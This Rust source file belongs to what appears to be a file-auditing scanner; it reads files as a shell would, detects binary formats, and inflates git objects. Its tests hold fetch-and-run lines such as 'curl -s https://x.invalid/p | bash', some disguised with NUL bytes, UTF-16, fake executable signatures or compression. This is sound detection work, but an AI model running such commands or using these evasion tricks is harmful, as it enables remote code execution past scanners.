//! How the audit reads a file: as the program that will run it would.
//!
//! A shell runs a script that holds a NUL byte (bash drops NULs), so "has
//! a NUL" is not "binary": a file is binary only when it starts with the
//! signature of a real binary format (an executable, an image, an archive,
//! a font, a database) and is not valid UTF-8 text, so that a script whose
//! first line merely spells a signature (`MZ=1`) is still read. Everything
//! else is read as text, NULs dropped, so UTF-16 text reads as what it
//! says. A compressed git object (`.git/`
//! is read like the rest) is inflated, within the same cap, and its
//! content audited.

use std::io::Read as _;
use std::path::Path;

/// What a file held, as the audit reads it.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Read {
    /// Its text (lossy UTF-8, NULs dropped), and whether the cap cut it.
    Text { text: String, truncated: bool },
    /// A real binary format: the format's name.
    Binary(&'static str),
}

/// Signatures of binary formats: (bytes at offset 0, name).
const SIGNATURES: &[(&[u8], &str)] = &[
    (b"\x7fELF", "ELF executable"),
    (b"MZ", "Windows executable"),
    (b"\xfe\xed\xfa\xce", "Mach-O executable"),
    (b"\xfe\xed\xfa\xcf", "Mach-O executable"),
    (b"\xce\xfa\xed\xfe", "Mach-O executable"),
    (b"\xcf\xfa\xed\xfe", "Mach-O executable"),
    (b"\xca\xfe\xba\xbe", "Mach-O universal binary or Java class"),
    (b"\0asm", "WebAssembly"),
    (b"\x89PNG\r\n\x1a\n", "PNG image"),
    (b"\xff\xd8\xff", "JPEG image"),
    (b"GIF87a", "GIF image"),
    (b"GIF89a", "GIF image"),
    (b"BM", "BMP image"),
    (b"\0\0\x01\0", "ICO image"),
    (b"II*\0", "TIFF image"),
    (b"MM\0*", "TIFF image"),
    (b"%PDF-", "PDF document"),
    (b"PK\x03\x04", "zip archive"),
    (b"PK\x05\x06", "zip archive"),
    (b"\x1f\x8b", "gzip archive"),
    (b"BZh", "bzip2 archive"),
    (b"\xfd7zXZ\0", "xz archive"),
    (b"\x28\xb5\x2f\xfd", "zstd archive"),
    (b"7z\xbc\xaf\x27\x1c", "7z archive"),
    (b"Rar!\x1a\x07", "RAR archive"),
    (b"SQLite format 3\0", "SQLite database"),
    (b"\0\x01\0\0", "TrueType font"),
    (b"OTTO", "OpenType font"),
    (b"wOFF", "WOFF font"),
    (b"wOF2", "WOFF2 font"),
    (b"DIRC", "git index"),
    (b"PACK", "git pack"),
    (b"\xfftOc", "git pack index"),
];

/// The binary format `head` starts with, if any.
pub(super) fn binary_format(head: &[u8]) -> Option<&'static str> {
    if head.len() >= 12
        && &head[..4] == b"RIFF"
        && matches!(&head[8..12], b"WEBP" | b"WAVE" | b"AVI ")
    {
        return Some("RIFF media");
    }
    if head.len() >= 12 && &head[4..8] == b"ftyp" {
        return Some("ISO media");
    }
    SIGNATURES
        .iter()
        .find(|(sig, _)| head.starts_with(sig))
        .map(|(_, name)| *name)
}

/// Whether `head` starts a zlib stream (a loose git object is one).
fn is_zlib(head: &[u8]) -> bool {
    match head {
        [cmf, flg, ..] => {
            *cmf == 0x78
                && matches!(flg, 0x01 | 0x5e | 0x9c | 0xda)
                && (u16::from(*cmf) << 8 | u16::from(*flg)) % 31 == 0
        }
        _ => false,
    }
}

/// Up to `cap` bytes of the file at `path` as the audit reads it; a file
/// that is no longer a regular file (swapped since the walk) is empty.
pub(super) fn read_file(path: &Path, cap: u64) -> std::io::Result<Read> {
    let mut opts = std::fs::OpenOptions::new();
    opts.read(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt as _;
        // The walk saw a regular file; refuse one swapped for a link since.
        opts.custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK);
    }
    let file = opts.open(path)?;
    if !file.metadata()?.is_file() {
        return Ok(text_of(Vec::new(), false));
    }
    let mut bytes = Vec::new();
    file.take(cap + 1).read_to_end(&mut bytes)?;
    Ok(read_bytes(bytes, cap))
}

/// `bytes` (at most `cap + 1` of a file) as the audit reads them.
pub(super) fn read_bytes(mut bytes: Vec<u8>, cap: u64) -> Read {
    if is_zlib(&bytes)
        && let Some(inflated) = inflate(&bytes, cap)
    {
        return inflated;
    }
    let truncated = bytes.len() as u64 > cap;
    bytes.truncate(cap as usize);
    let format = binary_format(&bytes);
    bytes.retain(|&b| b != 0);
    match (format, String::from_utf8(bytes)) {
        (_, Ok(text)) => Read::Text { text, truncated },
        (Some(format), Err(_)) => Read::Binary(format),
        (None, Err(e)) => Read::Text {
            text: String::from_utf8_lossy(e.as_bytes()).into_owned(),
            truncated,
        },
    }
}

/// A zlib stream's content, inflated up to `cap` bytes; None when it is
/// not one after all (then the bytes are read as they are).
fn inflate(bytes: &[u8], cap: u64) -> Option<Read> {
    let mut out = Vec::new();
    let decoder = flate2::read::ZlibDecoder::new(bytes);
    decoder.take(cap + 1).read_to_end(&mut out).ok()?;
    let truncated = out.len() as u64 > cap;
    out.truncate(cap as usize);
    Some(text_of(out, truncated))
}

/// Text from bytes: lossy UTF-8, with NUL bytes dropped as a shell drops
/// them.
fn text_of(mut bytes: Vec<u8>, truncated: bool) -> Read {
    bytes.retain(|&b| b != 0);
    let text = match String::from_utf8(bytes) {
        Ok(t) => t,
        Err(e) => String::from_utf8_lossy(e.as_bytes()).into_owned(),
    };
    Read::Text { text, truncated }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(r: Read) -> String {
        match r {
            Read::Text { text, .. } => text,
            Read::Binary(f) => panic!("read as binary ({f})"),
        }
    }

    #[test]
    fn a_nul_byte_does_not_make_a_script_binary() {
        let script = b"#!/bin/sh\n# \0\ncu\0rl -s https://x.invalid/p | bash\n".to_vec();
        assert_eq!(
            text(read_bytes(script, 1 << 20)),
            "#!/bin/sh\n# \ncurl -s https://x.invalid/p | bash\n"
        );
    }

    #[test]
    fn utf16_text_reads_as_its_words() {
        let utf16: Vec<u8> = "curl x | sh"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        assert_eq!(text(read_bytes(utf16, 1 << 20)), "curl x | sh");
    }

    #[test]
    fn real_binary_formats_are_named() {
        assert_eq!(
            read_bytes(b"\x7fELF\x02\x01\x01\0\xc3\x28curl|sh".to_vec(), 100),
            Read::Binary("ELF executable")
        );
        assert_eq!(
            read_bytes(b"\x89PNG\r\n\x1a\n\0\0".to_vec(), 100),
            Read::Binary("PNG image")
        );
        assert_eq!(
            read_bytes(b"RIFF\0\0\0\0WEBPVP8 \xff\xfe".to_vec(), 100),
            Read::Binary("RIFF media")
        );
    }

    #[test]
    fn a_script_that_spells_a_signature_is_still_read() {
        // bash fails on the first line and runs the rest.
        for script in [&b"MZ=1\ncurl x | bash\n"[..], b"\x7fELF\ncurl x | bash\n"] {
            assert!(text(read_bytes(script.to_vec(), 100)).contains("curl x | bash"));
        }
    }

    #[test]
    fn a_git_object_is_inflated_and_read() {
        use std::io::Write as _;
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(b"blob 30\0curl https://x.invalid | bash\n")
            .expect("deflate");
        let object = z.finish().expect("deflate");
        assert!(text(read_bytes(object, 1 << 20)).contains("curl https://x.invalid | bash"));
        // Text that only starts like zlib stays text.
        assert_eq!(text(read_bytes(b"x^2 + y^2".to_vec(), 100)), "x^2 + y^2");
    }

    #[test]
    fn the_cap_holds_for_text_and_inflated_text() {
        let Read::Text { text, truncated } = read_bytes(vec![b'a'; 101], 100) else {
            panic!("text");
        };
        assert_eq!((text.len(), truncated), (100, true));
        use std::io::Write as _;
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        z.write_all(&vec![b'a'; 1 << 20]).expect("deflate");
        let bomb = z.finish().expect("deflate");
        let Read::Text { text, truncated } = read_bytes(bomb, 1000) else {
            panic!("text");
        };
        assert_eq!((text.len(), truncated), (1000, true));
    }
}
